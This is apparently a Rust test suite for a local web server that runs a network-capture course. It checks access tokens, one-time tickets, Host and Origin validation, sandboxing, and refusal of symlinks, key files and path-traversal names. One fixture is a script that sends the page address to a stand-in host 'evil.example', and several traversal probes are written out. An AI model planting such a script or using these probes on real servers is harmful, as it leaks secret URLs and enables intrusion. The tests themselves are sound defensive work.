//! The course in a browser, asked byte for byte: who comes in, how a walk goes on.

#[cfg(target_os = "linux")]
use std::fs;
#[cfg(target_os = "linux")]
use std::os::unix::{fs::MetadataExt, process::CommandExt};

use serde_json::{Value, json};
use tempfile::tempdir;
use wirewalk::story::{Item, Step};
use wirewalk::{LESSONS, stage};
use wirewalk_testing::course::{Course, next};
use wirewalk_testing::outside;

#[test]
fn nobody_comes_in_without_the_token() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let (open, other) = (course.root.clone(), format!("/{}/", "0".repeat(32)));
    assert_eq!(course.get("").status, 200);
    for path in ["/", &other, &open[..open.len() - 2], "/lesson/1/", "//", "/open/", "/favicon.ico"] {
        let answer = course.ask("GET", path, &[], b"");
        assert!([403, 410].contains(&answer.status), "{path}: {}", answer.head);
        assert!(!answer.text().contains(open.trim_matches('/')) && !answer.head.contains(open.trim_matches('/')));
    }
    let posted = course.ask("POST", &format!("{other}lesson/1/walk"), &[], b"{}");
    assert_eq!(posted.status, 403);
    assert!(!out.path().join("lesson1").exists(), "and nothing was played");
}

#[test]
fn the_glossary_is_a_page_of_the_course() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    assert!(course.get("").text().contains("<a href=\"glossary\">"));
    let page = course.get("glossary");
    assert_eq!(page.status, 200);
    for term in wirewalk::glossary::TERMS {
        assert!(page.text().contains(&format!("<dt id=\"{}\">", term.anchor())), "{}", term.name);
    }
    assert!(!page.text().contains("<script") && page.text().contains("default-src 'none'"));
    assert_eq!(course.ask("POST", &format!("{}glossary", course.root), &[], b"").status, 405);
}

#[test]
fn a_name_of_somebody_elses_that_leads_here_is_refused() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let port = course.at.port();
    for host in
        ["evil.example".to_owned(), format!("evil.example:{port}"), "127.0.0.1".to_owned(), format!("127.0.0.2:{port}")]
    {
        let answer = course.ask("GET", &course.root, &[("Host", &host)], b"");
        assert_eq!(answer.status, 421, "{host}");
    }
    let localhost = format!("localhost:{port}");
    assert_eq!(course.ask("GET", &course.root, &[("Host", &localhost)], b"").status, 200);
}

#[test]
fn another_site_cannot_play_a_lesson_even_if_it_knows_the_address() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let own = format!("http://{}", course.at);
    let walk = format!("{}lesson/1/walk", course.root);
    for headers in [
        &[("Origin", "http://evil.example")][..],
        &[("Origin", "null")],
        &[("Sec-Fetch-Site", "cross-site")],
        &[("Sec-Fetch-Site", "same-site")],
        &[("Origin", &own), ("Sec-Fetch-Site", "cross-site")],
    ] {
        let answer = course.ask("POST", &walk, headers, b"{}");
        assert_eq!(answer.status, 403, "{headers:?}");
    }
    assert!(!out.path().join("lesson1").exists());
    let headers = [("Origin", own.as_str()), ("Sec-Fetch-Site", "same-origin")];
    assert_eq!(course.ask("POST", &walk, &headers, b"{}").status, 200);
}

#[test]
fn asking_with_get_changes_nothing_and_every_answer_is_kept_from_others() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    for (path, status) in
        [("lesson/1/walk", 405), ("explain", 405), ("lesson/1/", 200), ("lesson/11/", 404), ("compare", 404)]
    {
        let answer = course.get(path);
        assert_eq!(answer.status, status, "{path}");
        for said in [
            "cache-control: no-store",
            "referrer-policy: no-referrer",
            "content-security-policy: ",
            "x-frame-options: deny",
            "cross-origin-resource-policy: same-origin",
        ] {
            assert!(answer.head.contains(said), "{path}: {said}: {}", answer.head);
        }
    }
    for method in ["PUT", "DELETE", "OPTIONS", "HEAD"] {
        assert_eq!(course.ask(method, &course.root, &[], b"").status, 405, "{method}");
    }
    assert_eq!(course.ask("POST", &course.root, &[], b"").status, 405);
    assert_eq!(fs::read_dir(out.path()).expect("the folder").count(), 0);
}

#[test]
fn a_ticket_leads_to_the_token_once() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let (old, ticket) = (course.ticket(), course.ticket());
    let wrong = format!("/open/{}", "0".repeat(32));
    assert_eq!(course.ask("GET", &old, &[], b"").status, 410, "a new one takes the place of the old");
    assert_eq!(course.ask("GET", &wrong, &[], b"").status, 410);
    let answer = course.ask("GET", &ticket, &[], b"");
    assert_eq!(answer.status, 303, "a wrong one spoils nothing");
    assert!(answer.head.contains(&format!("location: {}\r\n", course.root)));
    assert_eq!(course.ask("GET", &ticket, &[], b"").status, 410);
}

#[test]
#[cfg(target_os = "linux")]
fn somebody_else_on_this_machine_gets_nothing_for_the_ticket() {
    if fs::metadata("/proc/self").expect("Linux").uid() != 0 {
        println!("skipped: only root can be somebody else");
        return;
    }
    let Some(curl) = outside::judge("curl") else { return };
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let ticket = format!("http://{}{}", course.at, course.ticket());
    // A socket of IPv6 reaches the same door, and is in another table.
    let mapped = ticket.replacen("127.0.0.1", "[::ffff:127.0.0.1]", 1);
    let host = format!("Host: {}", course.at);
    let asks = |uid, ticket: &str| {
        let mut command = std::process::Command::new(&curl);
        command
            .args(["-s", "-g", "-o", "/dev/null", "-w", "%{http_code} %{redirect_url}", "-H", &host])
            .arg(ticket)
            .uid(uid);
        String::from_utf8(command.current_dir("/").output().expect("it starts").stdout).expect("a status")
    };
    assert_eq!(asks(65534, &ticket), "403 ");
    assert_eq!(asks(65534, &mapped), "403 ");
    let answer = asks(0, &mapped);
    assert!(answer.starts_with("303 ") && answer.contains(&course.root), "and the person still gets in: {answer}");
}

/// A page can tell others its own address, by leading the browser there: nothing else may be in it.
#[test]
fn a_foreign_page_is_at_an_address_that_opens_nothing_else() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let lesson = out.path().join("lesson1");
    fs::create_dir(&lesson).expect("a folder");
    for name in ["lesson1.html", "lesson1.pcapng"] {
        fs::write(lesson.join(name), "<script>location = 'http://evil.example/?' + location</script>")
            .expect("written");
    }
    let token = course.root.trim_matches('/').to_owned();
    let [page] = &course.pages()[..] else { panic!("one page is offered") };
    assert!(!page.contains(&token));
    let answer = course.ask("GET", page, &[], b"");
    assert_eq!(answer.status, 200);
    assert!(!answer.head.contains(&token) && !answer.text().contains(&token));
    let policy = answer.head.lines().find(|line| line.starts_with("content-security-policy: ")).expect("a policy");
    assert!(
        policy.contains("default-src 'none'") && policy.trim_end().ends_with("; sandbox allow-scripts"),
        "{policy}"
    );
    // The mark in its address is good for this page alone, and the page is at no other.
    let mark = page.trim_start_matches("/page/");
    for path in
        [format!("/{mark}/"), format!("/{mark}/compare"), format!("{page}/"), format!("/page/{}", "0".repeat(32))]
    {
        assert!([403, 404].contains(&course.ask("GET", &path, &[], b"").status), "{path}");
    }
    assert_eq!(course.ask("POST", page, &[], b"").status, 403);
    assert_eq!(course.get("lesson/1/lesson1.html").status, 404);
    assert_eq!(course.ask("GET", page, &[("Host", "evil.example")], b"").status, 421);
}

#[test]
#[cfg(unix)]
fn what_is_a_link_a_pipe_or_somebody_elses_is_not_handed_out() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let lesson = out.path().join("lesson1");
    fs::create_dir(&lesson).expect("a folder");
    let (secret, at) = (out.path().join("secret"), |name: &str| lesson.join(name));
    fs::write(&secret, "mine alone").expect("written");
    fs::write(at("lesson1.pcapng"), "a walk was here").expect("written");
    std::os::unix::fs::symlink(&secret, at("lesson1.json")).expect("a link");
    std::os::unix::fs::symlink(&secret, at("lesson1.html")).expect("a link");
    assert!(std::process::Command::new("mkfifo").arg(at("lesson1-plot.svg")).status().expect("it starts").success());
    let home = course.get("").text();
    assert!(home.contains("lesson/1/lesson1.pcapng") && course.get("lesson/1/lesson1.pcapng").status == 200);
    assert!(
        !home.contains("lesson1.json") && !home.contains("lesson1-plot.svg") && course.pages().is_empty(),
        "{home}"
    );
    for name in ["lesson1.json", "lesson1-plot.svg"] {
        assert_eq!(course.get(&format!("lesson/1/{name}")).status, 404, "{name}");
    }
    if std::os::unix::fs::chown(at("lesson1.pcapng"), Some(65534), None).is_err() {
        println!("skipped: only root can give a file away");
        return;
    }
    assert!(!course.get("").text().contains("lesson1.pcapng"));
    assert_eq!(course.get("lesson/1/lesson1.pcapng").status, 404);
}

/// Plays a walk to its end, predicting always the same; all steps as the page has them in the end, and the last reply.
fn play(course: &Course, lesson: u8, chosen: Option<u64>) -> (Vec<Value>, Value) {
    let mut steps: Vec<Value> = Vec::new();
    let mut reply = course.wish(lesson, &json!({}));
    for turn in 1..200 {
        assert!(reply["error"].is_null(), "{reply}");
        assert_eq!(reply["turn"], turn);
        if reply["over"] == true {
            return (steps, reply);
        }
        let news = &reply["news"];
        steps.truncate(news["from"].as_u64().expect("a number") as usize);
        steps.extend(news["steps"].as_array().expect("steps").iter().cloned());
        reply = course.wish(lesson, &next(&reply, chosen.filter(|_| !reply["asks"].is_null())));
    }
    panic!("lesson {lesson} has no end");
}

#[test]
fn a_walk_in_a_browser_is_the_walk_step_by_step_with_what_was_predicted() {
    let (out, other) = (tempdir().expect("a folder"), tempdir().expect("a folder"));
    let course = Course::open(out.path());
    let (steps, last) = play(&course, 1, Some(1));
    let transcript = stage::rehearse(LESSONS[0], other.path()).expect("a walk");
    // Another test may hold the lesson's port; then the walk says so among what it measured.
    let items = |s: &Value| s["items"].as_array().expect("items").iter().filter(|i| i["kind"] != "values").count();
    let told: Vec<(&str, usize)> = steps.iter().map(|s| (s["id"].as_str().expect("an id"), items(s))).collect();
    let items = |s: &Step| s.items.iter().filter(|item| !matches!(item, Item::Values(_))).count();
    let walked: Vec<(&str, usize)> = transcript.steps.iter().map(|s| (&*s.id, items(s))).collect();
    assert_eq!(told, walked);
    let items: Vec<&Value> = steps.iter().flat_map(|s| s["items"].as_array().expect("items")).collect();
    let asks: Vec<&&Value> = items.iter().filter(|i| i["kind"] == "asks" && i["choices"] != json!([])).collect();
    assert!(!asks.is_empty() && asks.iter().all(|i| i["chosen"] == 1), "what was predicted is kept");
    assert!(items.iter().filter(|i| i["kind"] == "claim").all(|i| i["held"] == true));
    let files = last["files"].as_array().expect("files");
    assert!(files.iter().any(|f| f["path"].as_str().is_some_and(|p| p.ends_with("lesson1.pcapng"))));
    let page = course.ask("GET", &course.pages()[0], &[], b"");
    assert!(page.head.contains("sandbox allow-scripts"), "whoever wrote into the folder can ask for nothing");
    assert_eq!((page.status, page.body), (200, fs::read(out.path().join("lesson1/lesson1.html")).expect("the page")));
    assert!(course.get("").text().contains("lesson/1/lesson1.pcapng"), "the course offers them");
    assert!(course.get("compare").text().contains("Captures side by side"));
}

#[test]
fn the_page_grows_to_what_the_whole_page_holds() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let mut grown = json!({ "strings": [], "labels": [], "scenes": [] });
    let mut reply = course.wish(2, &json!({}));
    while reply["over"] != true {
        for table in ["strings", "labels", "scenes"] {
            let new = reply["news"][table].as_array().expect("a table").clone();
            grown[table].as_array_mut().expect("a table").extend(new);
        }
        reply = course.wish(2, &next(&reply, None));
        assert!(reply["error"].is_null(), "{reply}");
    }
    let page = course.ask("GET", &course.pages()[0], &[], b"").text();
    let data = page.split("id=\"data\">").nth(1).and_then(|rest| rest.split("</script>").next()).expect("the data");
    let whole: Value = serde_json::from_str(data).expect("JSON");
    for table in ["labels", "scenes"] {
        let (grown, whole) = (grown[table].as_array().expect("grown"), whole[table].as_array().expect("whole"));
        assert_eq!(grown.len(), whole.len(), "{table}");
    }
    let sorted = |table: &Value| {
        let mut all: Vec<String> = table.as_array().expect("texts").iter().map(Value::to_string).collect();
        all.sort_unstable();
        all
    };
    assert_eq!(sorted(&grown["strings"]), sorted(&whole["strings"]), "the same texts, each once");
}

#[test]
fn keys_are_not_offered_and_nothing_beside_what_is() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    stage::rehearse(LESSONS[4], &out.path().join("lesson5")).expect("a walk");
    assert!(out.path().join("lesson5/lesson5.keys").is_file());
    fs::write(out.path().join("lesson5/notes.txt"), "mine").expect("written");
    for name in [
        "lesson5.keys",
        "lesson5-with-secrets.pcapng",
        "notes.txt",
        ".wirewalk",
        "../lesson5/lesson5.pcapng",
        "..%2flesson5%2flesson5.pcapng",
        "lesson1.pcapng",
        "%6cesson5.keys",
    ] {
        assert_eq!(course.get(&format!("lesson/5/{name}")).status, 404, "{name}");
    }
    let capture = course.get("lesson/5/lesson5.pcapng");
    assert_eq!(capture.status, 200);
    assert!(capture.head.contains("content-disposition: attachment"));
    assert_eq!(capture.body, fs::read(out.path().join("lesson5/lesson5.pcapng")).expect("the capture"));
    assert!(course.get("").text().contains("lesson5-with-secrets.pcapng"), "where they are is said");
}

#[test]
fn of_two_walks_of_a_lesson_the_later_one_goes_on() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    let first = course.wish(1, &json!({}));
    let second = course.wish(1, &json!({}));
    let said = course.wish(1, &next(&first, None));
    assert!(said["error"].as_str().is_some_and(|why| why.contains("in another tab")), "{said}");
    let on = course.wish(1, &next(&second, None));
    assert!(on["news"]["steps"].is_array(), "{on}");
    let again = course.wish(1, &next(&second, None));
    assert!(again["error"].is_string(), "a turn is taken once: {again}");
}

#[test]
fn a_walk_begun_anew_waits_until_the_one_before_it_has_left_its_files() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    for _ in 0..4 {
        let mut reply = course.wish(1, &json!({}));
        // The last step but one: to say yes to the next wish is to write the files.
        while reply["news"]["steps"].as_array().and_then(|s| s.last()).is_none_or(|s| s["id"] != "thought") {
            assert!(reply["over"].is_null() && reply["error"].is_null(), "{reply}");
            reply = course.wish(1, &next(&reply, None));
        }
        std::thread::scope(|scope| {
            scope.spawn(|| course.wish(1, &next(&reply, None)));
            let (_, last) = play(&course, 1, None);
            assert_eq!(last["over"], true, "{last}");
        });
    }
}

#[test]
fn a_wish_that_is_none_and_a_walk_that_cannot_be_are_told() {
    let out = tempdir().expect("a folder");
    let course = Course::open(out.path());
    for wish in [&b"no JSON"[..], b"[]", b"{\"walk\":-1}", &[b' '; 5000]] {
        let answer = course.post("lesson/1/walk", wish);
        assert_eq!(answer.status, 400, "{}", answer.text());
    }
    let gone = course.wish(1, &json!({ "walk": 7, "turn": 1 }));
    assert!(gone["error"].as_str().is_some_and(|why| why.contains("over")), "{gone}");
    fs::create_dir_all(out.path().join("lesson1")).expect("a folder");
    fs::write(out.path().join("lesson1/lesson1.pcapng"), "a person's own").expect("written");
    let refused = course.wish(1, &json!({}));
    let why = refused["error"].as_str().expect("a reason");
    assert!(why.contains("lesson1.pcapng") && why.contains("--force"), "{why}");
    assert_eq!(fs::read_to_string(out.path().join("lesson1/lesson1.pcapng")).expect("read"), "a person's own");
}
